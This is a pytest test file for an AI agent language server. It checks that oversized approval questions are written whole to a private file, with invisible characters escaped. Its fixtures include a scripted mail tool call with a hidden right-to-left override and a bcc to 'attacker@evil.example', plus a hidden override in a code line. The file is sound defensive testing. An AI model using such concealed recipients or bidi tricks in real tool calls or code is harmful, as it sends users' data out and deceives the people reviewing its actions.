"""Long questions through the REAL server, for every approval question
(not only the trust questions): a question never hides a byte that
changes the answer.

When a question's whole text is longer than a message can carry, the
approval gate writes it to a file only the user can read in the state
directory, asks the editor to open it (window/showDocument) when it can,
and the message is a short form naming the tool and that file; it is never
a cut that looks complete. Characters that would not show as themselves
are escaped in both.

- An MCP tool call whose argument is 20,000 characters with a U+202E in
  the middle: the document holds every byte of it (the override escaped),
  the message names the tool and the file.
- write_file in message mode whose diff is longer than a message (and than
  the bounded preview the editor's own review shows): the document holds
  the whole diff; the client cannot open documents, so the message still
  names the file.
"""

from __future__ import annotations

import stat
import sys
from pathlib import Path
from typing import Any
from urllib.parse import unquote, urlsplit

import pytest

from tests.reliability.harness import LspProcess, scripted_settings, wait_until

pytestmark = pytest.mark.skipif(sys.platform == "win32", reason="POSIX modes")

RAW = str(Path(__file__).resolve().parents[1] / "fakes" / "mcp_raw_server.py")
RLO = "\u202e"
MESSAGE_LIMIT = 1500


def call(name: str, arguments: dict[str, Any], call_id: str) -> dict[str, Any]:
    return {"tool_calls": [{"id": call_id, "name": name, "arguments": arguments}]}


def questions(lsp: LspProcess) -> list[dict[str, Any]]:
    return [r["params"] for r in lsp.server_requests
            if r["method"] == "window/showMessageRequest"]


def shown_documents(lsp: LspProcess) -> list[Path]:
    return [Path(unquote(urlsplit(r["params"]["uri"]).path)) for r in lsp.server_requests
            if r["method"] == "window/showDocument"]


def denying(method: str, params: Any) -> Any:
    """A user who reads the question (and the document it opens) and says no."""
    if method == "window/showMessageRequest":
        return {"title": "Deny"}
    if method == "window/showDocument":
        return {"success": True}
    return None


def named_file(message: str, state: Path) -> Path:
    """The file the message names: a path under the state directory."""
    [path] = [word.rstrip(".") for word in message.split() if word.startswith(str(state))]
    return Path(path)


def test_a_huge_mcp_argument_is_shown_whole_in_a_document(tmp_path: Path,
                                                         workspace: Path) -> None:
    log = tmp_path / "mail.log"
    big = "x" * 10_000 + RLO + "y" * 9_999
    settings, _ = scripted_settings(tmp_path, "mcp", [
        call("mcp__mail__echo", {"text": big, "bcc": "attacker@evil.example"}, "m1"),
        {"text": "done"}])
    settings.update(approval={"mode": "message"}, mcpServers={"mail": {
        "command": sys.executable, "args": [RAW], "env": {"MCP_RAW_LOG": str(log)}}})
    state = tmp_path / "state"
    capabilities = {"window": {"showMessage": {"messageActionItem": {}},
                               "showDocument": {"support": True}}}
    with LspProcess.start(state_dir=state, workspace=workspace, settings=settings,
                          capabilities=capabilities) as lsp:
        lsp.responder = denying
        wait_until(lambda: any(e["name"] == "mail" and e["state"] == "ready"
                               for e in lsp.result("agentls/status", {})["mcp"]),
                   "the mail server ready", 60)
        result = lsp.result("agentls/chat", {"prompt": "send it"}, timeout=60)
        assert result["status"] == "completed", result
    [asked] = [q["message"] for q in questions(lsp) if "mcp__mail__echo" in q["message"]]
    [document] = shown_documents(lsp)
    # The message: short, names the tool and the file, carries no cut argument.
    assert len(asked) < MESSAGE_LIMIT and str(document) in asked
    assert "x" * 100 not in asked and RLO not in asked
    # The document: every byte of every argument, the override escaped.
    assert document.is_relative_to(state)
    assert stat.S_IMODE(document.stat().st_mode) == 0o600
    assert stat.S_IMODE(document.parent.stat().st_mode) == 0o700
    text = document.read_text(encoding="utf-8")
    assert "x" * 10_000 + "<U+202E>" + "y" * 9_999 in text
    assert "attacker@evil.example" in text and RLO not in text
    assert not log.exists() or '"tools/call"' not in log.read_text()  # denied


def test_a_long_diff_in_message_mode_is_shown_whole_in_a_document(tmp_path: Path,
                                                                  workspace: Path) -> None:
    lines = [f"line {i:04d} of the new file" for i in range(600)]
    lines[300] = f"print('ok'){RLO} # hidden"
    content = "\n".join(lines) + "\n"
    settings, _ = scripted_settings(tmp_path, "diff", [
        call("write_file", {"path": "big.py", "content": content}, "w1"), {"text": "done"}])
    settings.update(approval={"mode": "message"})
    state = tmp_path / "state"
    # An editor that applies edits but cannot open documents.
    capabilities = {"workspace": {"applyEdit": True,
                                  "workspaceEdit": {"documentChanges": True,
                                                    "resourceOperations": ["create"]}},
                    "window": {"showMessage": {"messageActionItem": {}}}}
    with LspProcess.start(state_dir=state, workspace=workspace, settings=settings,
                          capabilities=capabilities) as lsp:
        lsp.responder = denying
        result = lsp.result("agentls/chat", {"prompt": "write it"}, timeout=60)
        assert result["status"] == "completed", result
    [asked] = [q["message"] for q in questions(lsp)]
    assert shown_documents(lsp) == []
    assert asked.startswith("agentls: write_file big.py: allow this change?")
    assert len(asked) < MESSAGE_LIMIT and "more lines of diff not shown" not in asked
    document = named_file(asked, state)
    assert stat.S_IMODE(document.stat().st_mode) == 0o600
    text = document.read_text(encoding="utf-8")
    for line in lines[:300] + lines[301:]:
        assert f"+{line}\n" in text
    assert "+print('ok')<U+202E> # hidden" in text and RLO not in text
    assert "not shown" not in text
    assert not (workspace / "big.py").exists()
